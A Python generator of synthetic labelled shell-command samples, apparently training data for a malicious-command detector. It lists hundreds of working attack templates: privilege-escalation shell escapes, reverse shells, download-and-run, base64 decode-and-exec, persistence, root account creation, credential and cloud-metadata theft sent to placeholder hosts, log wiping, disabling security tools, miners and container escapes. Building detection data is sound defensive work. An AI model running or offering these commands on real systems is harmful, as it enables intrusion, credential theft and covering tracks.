"""Technique templates x realistic variations: the bulk of our synthetic collection.

Written by the team from Linux attack-technique knowledge (reverse and bind shells,
download-and-run, decode-and-exec, persistence, privilege escalation and shell
escapes through ordinary binaries, credential and cloud-metadata access, log and
history wiping, security tools disabled, miners, container escapes, exfiltration),
and from everyday admin practice for the benign hard negatives (admin one-liners,
Dockerfile RUN lines, installers, healthchecks, entrypoints). Nothing here is copied
from the shared corpus, but it was written knowing the corpus's technique names,
so it is never counted as held-out evidence.

All of it is inert text: never executed. Hosts are documentation addresses
(RFC 5737: 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) or `.invalid` names.
Seeded: the same run writes the same samples.
"""
import base64
import random

M, B = "malicious", "benign"

SHELLS = ["/bin/sh", "/bin/bash", "sh", "bash", "/bin/dash", "/usr/bin/bash", "/bin/zsh"]
IPS = ["192.0.2", "198.51.100", "203.0.113"]
HOSTS = ["c2.example.invalid", "update-cdn.invalid", "mirror-pkg.invalid", "files.invalid", "cdn.evilcorp.invalid"]
PORTS = [4444, 443, 8443, 1337, 9001, 53, 8080, 31337, 5555, 2222, 80, 7777]
BINS = ["kworker", ".x", "dbus-daemon", "sshd", "kthreadd", "syslogd", ".cache", "systemd-journal", "ld.so", "update", "nginx-w", "atd"]
USERS = ["backup", "sysadmin", "svc", "toor", "admin2", "support", "daemon2", "ops"]
SVCS = ["nginx", "postgresql", "redis", "app", "api", "worker", "gunicorn", "node", "prometheus", "grafana", "kafka", "mysql"]
PKGS = ["curl", "git", "jq", "ca-certificates", "build-essential", "python3-dev", "libpq-dev", "unzip", "gnupg", "tzdata", "openssl", "netcat-openbsd", "procps", "less", "vim-tiny"]
DIRS = ["/srv/app", "/var/www/html", "/opt/app", "/data", "/home/ubuntu/project", "/usr/src/app", "/app", "/workspace", "~/src", "/var/lib/app"]
TMP = ["/tmp", "/var/tmp", "/dev/shm"]


class Filler:
    def __init__(self, rnd):
        self.r = rnd

    def __call__(self, template):
        r = self.r
        ip = f"{r.choice(IPS)}.{r.randint(2, 250)}"
        target = ip if r.random() < 0.7 else r.choice(HOSTS)
        sh = r.choice(SHELLS)
        return template.format(
            ip=target, rawip=ip, port=r.choice(PORTS), port2=r.choice(PORTS), sh=sh, tmp=r.choice(TMP), bin=r.choice(BINS),
            user=r.choice(USERS), svc=r.choice(SVCS), pkg=" ".join(r.sample(PKGS, 3)), dir=r.choice(DIRS),
            n=r.randint(2, 60), sudo=r.choice(["", "", "sudo ", "sudo -n "]), hex=f"{r.getrandbits(64):016x}",
            b64=base64.b64encode(r.choice(PAYLOADS).format(ip=ip, port=r.choice(PORTS)).encode()).decode(),
            ver=f"{r.randint(1, 4)}.{r.randint(0, 30)}.{r.randint(0, 9)}",
        )


# What gets base64-encoded inside decode-and-exec samples.
PAYLOADS = [
    "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "curl -fsSL http://{ip}/i.sh | sh",
    "wget -qO- http://{ip}:{port}/x | bash",
    "nc {ip} {port} -e /bin/sh",
    "cd /tmp; wget http://{ip}/b; chmod +x b; ./b",
    "(crontab -l; echo '* * * * * curl -s http://{ip}/c | sh') | crontab -",
]

# --- malicious bash: one technique per template --------------------------------
SHELL_ESCAPES = [
    "{sudo}find . -maxdepth 1 -exec {sh} -p \\; -quit",
    "{sudo}find / -name passwd -exec {sh} \\;",
    "{sudo}vim -c ':!{sh}'",
    "{sudo}vim -c ':set shell={sh}|:shell'",
    "{sudo}vi -c ':py3 import os; os.execl(\"{sh}\", \"sh\", \"-pc\", \"reset; exec sh -p\")'",
    "{sudo}less /var/log/syslog\n!{sh}",
    "{sudo}man man\n!{sh}",
    "{sudo}more /etc/hosts\n!{sh}",
    "{sudo}journalctl -n 5\n!{sh}",
    "{sudo}awk 'BEGIN {{system(\"{sh}\")}}'",
    "{sudo}gawk 'BEGIN {{system(\"{sh} -p\")}}'",
    "{sudo}perl -e 'exec \"{sh}\";'",
    "{sudo}perl -e 'use POSIX qw(setuid); POSIX::setuid(0); exec \"{sh}\";'",
    "{sudo}python3 -c 'import os; os.system(\"{sh}\")'",
    "{sudo}python -c 'import os; os.setuid(0); os.execl(\"{sh}\", \"sh\", \"-p\")'",
    "{sudo}python3 -c 'import pty; pty.spawn(\"{sh}\")'",
    "{sudo}ruby -e 'exec \"{sh}\"'",
    "{sudo}lua -e 'os.execute(\"{sh}\")'",
    "{sudo}php -r 'system(\"{sh} -i\");'",
    "{sudo}php -r 'pcntl_exec(\"{sh}\");'",
    "{sudo}node -e 'require(\"child_process\").spawn(\"{sh}\", {{stdio: [0, 1, 2]}})'",
    "{sudo}env {sh} -p",
    "{sudo}nice {sh}",
    "{sudo}ionice {sh}",
    "{sudo}timeout --foreground 1d {sh}",
    "{sudo}stdbuf -o0 {sh}",
    "{sudo}xargs -a /dev/null {sh} -p",
    "{sudo}setarch $(uname -m) {sh} -p",
    "{sudo}taskset 1 {sh} -p",
    "{sudo}strace -o /dev/null {sh} -p",
    "{sudo}gdb -nx -ex '!{sh}' -ex quit",
    "{sudo}git -p help config\n!{sh}",
    "{sudo}tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec={sh}",
    "{sudo}zip /tmp/z.zip /etc/hostname -T --unzip-command=\"{sh} -c {sh}\"",
    "{sudo}rsync -e '{sh} -c \"{sh} 0<&2 1>&2\"' 127.0.0.1:/dev/null",
    "{sudo}ssh -o ProxyCommand=';{sh} 0<&2 1>&2' x",
    "{sudo}script -q /dev/null -c {sh}",
    "{sudo}start-stop-daemon -n x -S -x {sh} -- -p",
    "{sudo}expect -c 'spawn {sh} -p; interact'",
    "echo 'exec {sh} <@stdin >@stdout 2>@stderr' | {sudo}tclsh",
    "{sudo}sed -n '1e exec {sh} 1>&0' /etc/hostname",
    "{sudo}sqlite3 /dev/null '.shell {sh}'",
    "{sudo}mysql -e '\\! {sh}'",
    "{sudo}psql -c '\\! {sh}'",
    "{sudo}ftp\n!{sh}",
    "{sudo}watch -x {sh} -c 'reset; exec {sh} 1>&0 2>&0'",
    "{sudo}unshare -r {sh}",
    "{sudo}chroot / {sh}",
    "{sudo}logsave /dev/null {sh} -i",
    "{sudo}capsh --gid=0 --uid=0 --",
    "{sudo}busybox sh",
    "{sudo}emacs -Q -nw --eval '(term \"{sh}\")'",
    "{sudo}ed\n!{sh}",
    "{sudo}nmap --script <(echo 'os.execute(\"{sh}\")')",
    "{sudo}make -s --eval=$'x:\\n\\t-'\"{sh}\"",
    "{sudo}dmesg -H\n!{sh}",
    "{sudo}pkexec {sh}",
    "sudo -u#-1 {sh}",
    "sudo su -",
    "sudo -i",
    "{sudo}systemctl\n!{sh}",
    "{sudo}cpan\n! exec '{sh}'",
    "{sudo}openvpn --dev null --script-security 2 --up '{sh} -c {sh}'",
    "{sudo}docker run -v /:/mnt --rm -it alpine chroot /mnt {sh}",
    "{sudo}apt-get update -o APT::Update::Pre-Invoke::={sh}",
    "{sudo}dpkg -i /tmp/x_1.0_all.deb",
    "{sudo}pip install /tmp/pwnpkg",
    "{sudo}crontab -e\n!{sh}",
    "{sudo}nano -s {sh} /etc/hosts",
    "{sudo}ssh-keygen -D /tmp/lib.so",
    "{sudo}busctl --address=unixexec:path={sh},argv1=-c,argv2='{sh} -i 0<&2 1>&2'",
    "{sudo}tmux -c {sh}",
    "{sudo}screen -d -m {sh}",
    "{sudo}socat stdin exec:{sh}",
    "{sudo}wish\nexec {sh} <@stdin >@stdout 2>@stderr",
    "{sudo}red /etc/shadow\n,p",
    "{sudo}zsh -c 'zmodload zsh/system; sysopen -r -u 3 /etc/shadow; cat <&3'",
    "{sudo}install -m 4755 {sh} /tmp/.{bin}",
    "cp {sh} {tmp}/.{bin}; chmod +s {tmp}/.{bin}; {tmp}/.{bin} -p",
    "{sudo}chmod u+s /bin/bash",
    "{sudo}chmod 4755 /usr/bin/find",
    "{sudo}setcap cap_setuid+ep /usr/bin/python3",
    "{sudo}setcap cap_setuid,cap_setgid=ep {tmp}/{bin}",
    "/usr/bin/python3 -c 'import os; os.setuid(0); os.system(\"{sh}\")'",
    "perl -e 'use POSIX (setuid); POSIX::setuid(0); exec \"{sh}\";'",
    "{sudo}LD_PRELOAD={tmp}/{bin}.so apache2",
    "{sudo}LD_LIBRARY_PATH={tmp} /usr/sbin/{svc}",
    "echo 'int getuid(){{return 0;}}' > {tmp}/x.c && gcc -shared -fPIC -o {tmp}/x.so {tmp}/x.c && LD_PRELOAD={tmp}/x.so sudo id",
    "find / -perm -4000 -type f 2>/dev/null | xargs ls -la",
    "find / -perm -u=s -type f 2>/dev/null",
    "getcap -r / 2>/dev/null",
    "sudo -l",
    "export PATH={tmp}:$PATH && echo '{sh}' > {tmp}/ps && chmod +x {tmp}/ps && /usr/local/bin/status",
]

REVERSE_SHELLS = [
    "{sh} -i >& /dev/tcp/{ip}/{port} 0>&1",
    "bash -c '{sh} -i >& /dev/tcp/{ip}/{port} 0>&1'",
    "0<&196;exec 196<>/dev/tcp/{ip}/{port}; {sh} <&196 >&196 2>&196",
    "exec 5<>/dev/tcp/{ip}/{port};cat <&5 | while read line; do $line 2>&5 >&5; done",
    "{sh} -i 5<> /dev/tcp/{ip}/{port} 0<&5 1>&5 2>&5",
    "{sh} -i >& /dev/udp/{ip}/{port} 0>&1",
    "nohup bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1' &",
    "nc -e {sh} {ip} {port}",
    "nc {ip} {port} -e {sh}",
    "nc.traditional -e {sh} {ip} {port}",
    "ncat {ip} {port} -e {sh}",
    "ncat --ssl {ip} {port} --sh-exec {sh}",
    "busybox nc {ip} {port} -e {sh}",
    "rm -f {tmp}/f;mkfifo {tmp}/f;cat {tmp}/f|{sh} -i 2>&1|nc {ip} {port} >{tmp}/f",
    "mknod {tmp}/p p && {sh} 0<{tmp}/p | nc {ip} {port} 1>{tmp}/p",
    "nc -lvnp {port} -e {sh}",
    "nc -l -p {port} -e {sh}",
    "ncat -lvp {port} --exec {sh} --allow {ip}",
    "socat tcp-connect:{ip}:{port} exec:{sh},pty,stderr,setsid,sigint,sane",
    "socat TCP-LISTEN:{port},reuseaddr,fork EXEC:{sh},pty,stderr",
    "socat file:`tty`,raw,echo=0 tcp-listen:{port}",
    "perl -e 'use Socket;$i=\"{ip}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"{sh} -i\");}};'",
    "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"{ip}:{port}\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"{sh}\",\"-i\"])'",
    "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{port}));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"{sh}\")'",
    "python3 -c 'import socket,os;s=socket.socket();s.bind((\"0.0.0.0\",{port}));s.listen(1);c,a=s.accept();[os.dup2(c.fileno(),i) for i in range(3)];os.system(\"{sh}\")'",
    "php -r '$sock=fsockopen(\"{ip}\",{port});exec(\"{sh} -i <&3 >&3 2>&3\");'",
    "php -r '$s=fsockopen(\"{ip}\",{port});$proc=proc_open(\"{sh}\", array(0=>$s, 1=>$s, 2=>$s),$pipes);'",
    "ruby -rsocket -e 'f=TCPSocket.open(\"{ip}\",{port}).to_i;exec sprintf(\"{sh} -i <&%d >&%d 2>&%d\",f,f,f)'",
    "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"{ip}\",\"{port}\");loop{{c.gets.chomp!;(exit! if $_==\"exit\");IO.popen($_,\"r\"){{|io|c.print io.read}}}}'",
    "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('{ip}','{port}');os.execute('{sh} -i <&3 >&3 2>&3');\"",
    "node -e 'var n=require(\"net\"),c=require(\"child_process\"),s=c.spawn(\"{sh}\",[]);var k=new n.Socket();k.connect({port},\"{ip}\",function(){{k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k);}});'",
    "awk 'BEGIN {{s = \"/inet/tcp/0/{ip}/{port}\"; while(42) {{ do{{ printf \"$ \" |& s; s |& getline c; if(c){{ while ((c |& getline) > 0) print $0 |& s; close(c); }} }} while(c != \"exit\") close(s); }}}}' /dev/null",
    "telnet {ip} {port} | {sh} | telnet {ip} {port2}",
    "mkfifo {tmp}/s; {sh} -i < {tmp}/s 2>&1 | openssl s_client -quiet -connect {ip}:{port} > {tmp}/s; rm {tmp}/s",
    "xterm -display {ip}:1",
    "zsh -c 'zmodload zsh/net/tcp && ztcp {ip} {port} && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    "while true; do {sh} -i >& /dev/tcp/{ip}/{port} 0>&1; sleep {n}; done",
    "TF=$(mktemp -u);mkfifo $TF && telnet {ip} {port} 0<$TF | {sh} 1>$TF",
    "gawk 'BEGIN{{s=\"/inet/tcp/{port}/0/0\";while(1){{s|&getline c;while((c|&getline l)>0)print l|&s;close(c)}}}}'",
    "sqlite3 /dev/null '.shell {sh} -i >& /dev/tcp/{ip}/{port} 0>&1'",
    "curl -s http://{ip}:{port}/shell | {sh} -i 2>&1 | curl -s -T - http://{ip}:{port2}/o",
    "ssh -R {port}:127.0.0.1:22 -N -f -o StrictHostKeyChecking=no tunnel@{ip}",
    "sshpass -p 'P@ssw0rd' ssh -o StrictHostKeyChecking=no root@{ip} 'curl -s http://{ip}/i | sh'",
    "chisel client {ip}:{port} R:socks",
    "{tmp}/.{bin} client {ip}:{port} R:{port2}:127.0.0.1:22",
    "ngrok tcp 22 --authtoken {hex}",
    "for p in $(seq 1 1024); do (echo > /dev/tcp/{ip}/$p) 2>/dev/null && echo open $p; done",
]

DOWNLOAD_RUN = [
    "curl -fsSL http://{ip}/{bin}.sh | {sh}",
    "curl -s http://{ip}:{port}/i | sudo {sh}",
    "wget -qO- http://{ip}/x | {sh}",
    "wget -q -O - http://{ip}:{port}/s.sh | {sh} -s -- {hex}",
    "curl -k https://{ip}/p.py | python3",
    "curl -s http://{ip}/x.pl | perl",
    "{sh} -c \"$(curl -fsSL http://{ip}/{bin})\"",
    "{sh} <(curl -s http://{ip}:{port}/a)",
    "cd {tmp}; wget http://{ip}/{bin}; chmod +x {bin}; ./{bin}",
    "cd {tmp} && curl -O http://{ip}/{bin} && chmod 777 {bin} && ./{bin} &",
    "curl -o {tmp}/.{bin} http://{ip}/{bin} && chmod +x {tmp}/.{bin} && {tmp}/.{bin}",
    "wget http://{ip}/{bin} -O {tmp}/{bin}; chmod 755 {tmp}/{bin}; nohup {tmp}/{bin} >/dev/null 2>&1 &",
    "busybox wget http://{ip}/{bin} -O- > {tmp}/{bin}; chmod +x {tmp}/{bin}; {tmp}/{bin}",
    "tftp -g -r {bin} {ip} && chmod +x {bin} && ./{bin}",
    "(curl -fsSL http://{ip}/i.sh || wget -q -O- http://{ip}/i.sh) | {sh}",
    "python3 -c \"import urllib.request as u;exec(u.urlopen('http://{ip}/s.py').read())\"",
    "python3 -c \"import urllib.request;urllib.request.urlretrieve('http://{ip}/{bin}','{tmp}/{bin}')\" && chmod +x {tmp}/{bin} && {tmp}/{bin}",
    "perl -MLWP::Simple -e 'getstore(\"http://{ip}/{bin}\",\"{tmp}/{bin}\")' && chmod +x {tmp}/{bin} && {tmp}/{bin}",
    "php -r 'file_put_contents(\"{tmp}/{bin}\", file_get_contents(\"http://{ip}/{bin}\"));' && chmod +x {tmp}/{bin} && {tmp}/{bin}",
    "exec 3<>/dev/tcp/{ip}/80; echo -e 'GET /{bin} HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 > {tmp}/{bin}; chmod +x {tmp}/{bin}; {tmp}/{bin}",
    "curl -s http://{ip}/{bin} -o /usr/local/bin/{bin} && chmod +x /usr/local/bin/{bin} && /usr/local/bin/{bin} -d",
    "scp -o StrictHostKeyChecking=no user@{ip}:/srv/{bin} {tmp}/ && {tmp}/{bin}",
    "nc {ip} {port} > {tmp}/{bin} && chmod +x {tmp}/{bin} && {tmp}/{bin}",
    "socat -u tcp-connect:{ip}:{port} open:{tmp}/{bin},creat && chmod +x {tmp}/{bin}",
    "curl http://{ip}/{bin}.tar.gz | tar xz -C {tmp} && {tmp}/{bin}/run",
    "wget -q http://{ip}/{bin}.so -O /usr/lib/{bin}.so && echo /usr/lib/{bin}.so > /etc/ld.so.preload",
    "rsync -a rsync://{ip}/pub/{bin} {tmp}/{bin} && {tmp}/{bin}",
    "curl -s http://{ip}/k.ko -o {tmp}/k.ko && insmod {tmp}/k.ko",
]

DECODE_EXEC = [
    "echo {b64} | base64 -d | {sh}",
    "echo '{b64}' | base64 --decode | {sh}",
    "eval \"$(echo {b64} | base64 -d)\"",
    "{sh} -c \"$(echo {b64} | base64 -d)\"",
    "echo {b64} | base64 -d > {tmp}/.s && {sh} {tmp}/.s",
    "printf '%s' '{b64}' | base64 -di | sudo {sh}",
    "python3 -c \"import base64,os;os.system(base64.b64decode('{b64}').decode())\"",
    "python3 -c \"exec(__import__('base64').b64decode('{b64}'))\"",
    "perl -MMIME::Base64 -e 'system(decode_base64(\"{b64}\"))'",
    "echo {hex}{hex} | xxd -r -p | {sh}",
    "printf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73' | {sh}",
    "echo 'hs | {bin}/moc.diordna//:ptth lruc' | rev | {sh}",
    "openssl enc -d -aes-256-cbc -pbkdf2 -k {hex} -in {tmp}/.p | {sh}",
    "gzip -dc {tmp}/.p.gz | {sh}",
    "curl -s http://{ip}/p.b64 | base64 -d | {sh}",
    "wget -qO- http://{ip}/p | base64 -d | gunzip | {sh}",
    "echo {b64} | base64 -d | python3",
    "a=cu;b=rl;c=\"http://{ip}/x\";$a$b -s $c | {sh}",
    "c''url -s http://{ip}/x | b''ash",
    "w\\get -qO- http://{ip}/x | s\\h",
    "X=$(printf '\\142\\141\\163\\150'); $X -c 'id'",
]

PERSISTENCE = [
    "(crontab -l 2>/dev/null; echo '*/{n} * * * * curl -fsSL http://{ip}/{bin}.sh | {sh}') | crontab -",
    "echo '* * * * * root {sh} -c \"{sh} -i >& /dev/tcp/{ip}/{port} 0>&1\"' > /etc/cron.d/{svc}-rotate",
    "echo '@reboot {tmp}/.{bin}' >> /var/spool/cron/crontabs/root",
    "echo '@reboot root wget -q -O- http://{ip}/r | sh' >> /etc/crontab",
    "crontab -l | {{ cat; echo \"@reboot nohup {tmp}/.{bin} >/dev/null 2>&1 &\"; }} | crontab -",
    "printf '[Unit]\\nDescription={svc} helper\\n[Service]\\nExecStart={tmp}/.{bin}\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/{svc}-helper.service && systemctl enable --now {svc}-helper",
    "cat > /etc/systemd/system/{bin}.service <<EOF\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'\nRestart=always\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl daemon-reload; systemctl enable {bin}",
    "mkdir -p ~/.config/systemd/user && cp {tmp}/{bin}.service ~/.config/systemd/user/ && systemctl --user enable --now {bin}",
    "echo '{tmp}/.{bin} &' >> /etc/rc.local && chmod +x /etc/rc.local",
    "echo 'nohup {sh} -i >& /dev/tcp/{ip}/{port} 0>&1 &' >> ~/.bashrc",
    "echo 'curl -s http://{ip}/p | {sh} &>/dev/null &' >> /etc/profile",
    "echo 'alias sudo=\"{tmp}/.{bin}\"' >> ~/.bashrc",
    "echo '{tmp}/.{bin} 2>/dev/null &' > /etc/profile.d/{svc}.sh",
    "echo 'trap \"{tmp}/.{bin}\" EXIT' >> ~/.bash_logout",
    "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{hex} {user}@{ip}' >> ~/.ssh/authorized_keys",
    "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ{hex}' >> /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys",
    "curl -s http://{ip}/k.pub >> /root/.ssh/authorized_keys",
    "echo {tmp}/.{bin}.so > /etc/ld.so.preload",
    "echo 'export LD_PRELOAD={tmp}/.{bin}.so' >> /etc/profile",
    "echo 'ACTION==\"add\", RUN+=\"{tmp}/.{bin}\"' > /etc/udev/rules.d/75-{bin}.rules",
    "echo '#!/bin/sh\n{tmp}/.{bin} &' > /etc/update-motd.d/99-{bin} && chmod +x /etc/update-motd.d/99-{bin}",
    "echo 'APT::Update::Pre-Invoke {{\"nohup {tmp}/.{bin} &\"}};' > /etc/apt/apt.conf.d/99{bin}",
    "echo '{tmp}/.{bin}' | at now + 1 minute",
    "echo '{sh} -i >& /dev/tcp/{ip}/{port} 0>&1' > .git/hooks/post-merge && chmod +x .git/hooks/post-merge",
    "cp {tmp}/.{bin} /etc/init.d/{bin} && update-rc.d {bin} defaults",
    "printf '[Desktop Entry]\\nType=Application\\nExec={tmp}/.{bin}\\n' > ~/.config/autostart/{bin}.desktop",
    "echo 'auth optional pam_exec.so quiet expose_authtok {tmp}/.{bin}' >> /etc/pam.d/common-auth",
    "printf '[Timer]\\nOnBootSec=1min\\nOnUnitActiveSec={n}min\\n[Install]\\nWantedBy=timers.target\\n' > /etc/systemd/system/{bin}.timer && systemctl enable --now {bin}.timer",
]

ACCOUNTS = [
    "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {user} && echo '{user}:P@ss{n}' | chpasswd",
    "echo '{user}:$1$x$abc:0:0:root:/root:/bin/bash' >> /etc/passwd",
    "echo \"{user}:$(openssl passwd -1 -salt x pass{n}):0:0::/root:/bin/bash\" >> /etc/passwd",
    "echo '{user} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    "echo '{user} ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/{user}",
    "usermod -aG sudo {user}",
    "usermod -G wheel,root {user}",
    "echo 'root:toor{n}' | chpasswd",
    "useradd -m -s /bin/bash -G sudo {user} && echo '{user}:{hex}' | chpasswd",
    "sed -i 's/^{user}:x:[0-9]*:/{user}:x:0:/' /etc/passwd",
    "passwd -d root",
    "sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config && systemctl restart sshd",
]

CREDENTIALS = [
    "cat /etc/shadow",
    "cat /etc/shadow | curl -s -X POST --data-binary @- http://{ip}:{port}/",
    "unshadow /etc/passwd /etc/shadow > {tmp}/h.txt",
    "find / -name id_rsa 2>/dev/null",
    "find / -name 'id_*' -path '*/.ssh/*' 2>/dev/null -exec cat {{}} \\;",
    "find /home /root -name '*.pem' -o -name '*.key' 2>/dev/null | xargs tar czf {tmp}/k.tgz",
    "grep -rni 'password' /home /var/www /etc 2>/dev/null | head -{n}",
    "grep -rE 'AKIA[0-9A-Z]{{16}}' / 2>/dev/null",
    "cat ~/.aws/credentials",
    "cat ~/.docker/config.json ~/.kube/config ~/.git-credentials 2>/dev/null",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "env | grep -iE 'key|secret|token|passw'",
    "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -i secret",
    "strings /proc/$(pgrep -f sshd | head -1)/maps",
    "gcore -o {tmp}/d $(pgrep -f gnome-keyring)",
    "cat ~/.bash_history | grep -iE 'pass|ssh|mysql'",
    "cat /root/.bash_history",
    "tcpdump -i any -A -s0 port 21 or port 23 or port 110 -w {tmp}/c.pcap",
    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600'); curl -s -H \"X-aws-ec2-metadata-token: $TOKEN\" http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'",
    "wget -qO- http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "cat ~/.pgpass ~/.my.cnf ~/.netrc 2>/dev/null",
    "find / -name wallet.dat 2>/dev/null",
    "cp ~/.mozilla/firefox/*.default*/logins.json {tmp}/",
    "mysqldump -u root --all-databases | gzip | curl -s -T - http://{ip}/db.gz",
]

EVASION = [
    "history -c && history -w",
    "unset HISTFILE; export HISTSIZE=0",
    "export HISTFILE=/dev/null",
    "rm -f ~/.bash_history && ln -s /dev/null ~/.bash_history",
    "cat /dev/null > ~/.bash_history && history -c",
    "set +o history",
    "shred -u ~/.bash_history ~/.zsh_history",
    "rm -rf /var/log/*",
    "rm -f /var/log/auth.log /var/log/secure /var/log/syslog",
    "truncate -s 0 /var/log/wtmp /var/log/btmp /var/log/lastlog",
    "> /var/log/auth.log; > /var/log/syslog",
    "echo > /var/log/wtmp",
    "cat /dev/null > /var/log/messages",
    "dd if=/dev/zero of=/var/log/auth.log bs=1 count=$(stat -c %s /var/log/auth.log)",
    "find /var/log -type f -exec truncate -s 0 {{}} \\;",
    "journalctl --rotate && journalctl --vacuum-time=1s",
    "sed -i '/{ip}/d' /var/log/auth.log",
    "utmpdump /var/log/wtmp | grep -v {ip} | utmpdump -r -o /var/log/wtmp",
    "setenforce 0",
    "sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config",
    "systemctl stop auditd && systemctl disable auditd",
    "service auditd stop",
    "systemctl stop falcon-sensor && systemctl disable falcon-sensor",
    "systemctl stop osqueryd; systemctl mask osqueryd",
    "systemctl stop apparmor && systemctl disable apparmor",
    "systemctl stop rsyslog syslog-ng",
    "systemctl stop cron && systemctl stop {svc}",
    "pkill -9 -f falco; pkill -9 -f wazuh-agentd",
    "kill -9 $(pidof rsyslogd)",
    "auditctl -e 0",
    "auditctl -D",
    "ufw disable",
    "iptables -F && iptables -X && iptables -P INPUT ACCEPT",
    "iptables -I INPUT -s {rawip} -j ACCEPT",
    "echo 0 > /proc/sys/kernel/randomize_va_space",
    "echo 0 > /proc/sys/kernel/yama/ptrace_scope",
    "touch -r /bin/ls {tmp}/.{bin}",
    "touch -t 201901010000 /usr/local/bin/{bin}",
    "touch -d '2019-01-01 00:00' /etc/cron.d/{svc}",
    "mkdir -p {tmp}/.../. && mv {tmp}/{bin} {tmp}/.../.",
    "mv {tmp}/{bin} /usr/bin/.{bin} && chattr +i /usr/bin/.{bin}",
    "chattr -ia /etc/ld.so.preload /etc/crontab",
    "exec -a '[kworker/0:1]' {tmp}/.{bin}",
    "mount -o bind {tmp}/empty /proc/$(pgrep -f {bin})",
    "dmesg -C",
    "rm -- \"$0\"",
    "insmod {tmp}/.{bin}.ko",
    "rmmod {bin}; modprobe -r {bin}",
    "unset LD_PRELOAD; LD_PRELOAD={tmp}/.h.so ps aux",
    "kill -STOP $(pgrep -f auditd)",
    "echo 1 > /proc/sys/vm/drop_caches; swapoff -a; swapon -a",
]

MINERS = [
    "{tmp}/.{bin}/xmrig -o pool.invalid:{port} -u 4{hex}{hex} -p x -k --donate-level=1 -B",
    "nohup ./{bin} -a rx/0 -o stratum+tcp://{ip}:{port} -u {hex} -t $(nproc) >/dev/null 2>&1 &",
    "curl -s http://{ip}/xmrig.tar.gz | tar xz -C {tmp} && {tmp}/xmrig --url={ip}:{port} --user={hex} --cpu-max-threads-hint=90 --background",
    "sysctl -w vm.nr_hugepages=$(nproc) && modprobe msr && ./{bin} -c config.json",
    "pkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kinsing; pkill -f minerd",
    "ps aux | grep -v grep | grep -iE 'xmr|miner|cryptonight' | awk '{{print $2}}' | xargs kill -9",
    "ps -ef | awk '$8 ~ /{tmp}/ {{print $2}}' | xargs kill -9",
    "netstat -anp | grep :3333 | awk '{{print $7}}' | cut -d/ -f1 | xargs kill -9",
    "./cpuminer -a cryptonight -o stratum+tcp://{ip}:{port} -u {hex} -p x",
    "wget -q http://{ip}/config.json -O {tmp}/.{bin}/config.json; cd {tmp}/.{bin} && ./{bin} --config=config.json &",
]

CONTAINER_ESCAPE = [
    "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json",
    "curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' -d '{{\"Image\":\"alpine\",\"Cmd\":[\"chroot\",\"/h\",\"sh\"],\"HostConfig\":{{\"Binds\":[\"/:/h\"],\"Privileged\":true}}}}' http://localhost/containers/create",
    "docker -H unix:///var/run/docker.sock run --rm -v /:/host -it alpine chroot /host {sh}",
    "docker run --privileged --pid=host -it alpine nsenter -t 1 -m -u -n -i {sh}",
    "nsenter --target 1 --mount --uts --ipc --net --pid -- {sh}",
    "nsenter -t 1 -a {sh} -c 'curl -s http://{ip}/i | sh'",
    "mkdir {tmp}/cg && mount -t cgroup -o rdma cgroup {tmp}/cg && mkdir {tmp}/cg/x && echo 1 > {tmp}/cg/x/notify_on_release && echo \"$(sed -n 's/.*\\upperdir=\\([^,]*\\).*/\\1/p' /etc/mtab)/cmd\" > {tmp}/cg/release_agent",
    "echo '|/tmp/.{bin} %p' > /proc/sys/kernel/core_pattern",
    "mkdir -p /mnt/host && mount /dev/sda1 /mnt/host && chroot /mnt/host {sh}",
    "mount /dev/vda1 /mnt && echo '* * * * * root sh -c \"sh -i >& /dev/tcp/{ip}/{port} 0>&1\"' >> /mnt/etc/crontab",
    "cat /proc/1/root/etc/shadow",
    "ls -la /proc/1/root/root/.ssh/",
